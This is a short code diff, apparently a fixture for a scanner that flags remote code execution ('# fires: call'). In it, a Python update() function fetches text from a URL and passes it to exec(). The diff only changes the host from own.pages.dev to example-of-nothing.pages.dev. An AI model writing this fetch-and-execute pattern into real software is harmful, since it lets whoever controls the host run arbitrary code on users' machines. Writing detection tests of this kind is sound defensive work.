@@ -1,4 +1,4 @@
 import requests
 
 def update():
-    exec(requests.get("https://own.pages.dev/a").text)  # fires: call
+    exec(requests.get("https://example-of-nothing.pages.dev/a").text)  # fires: call
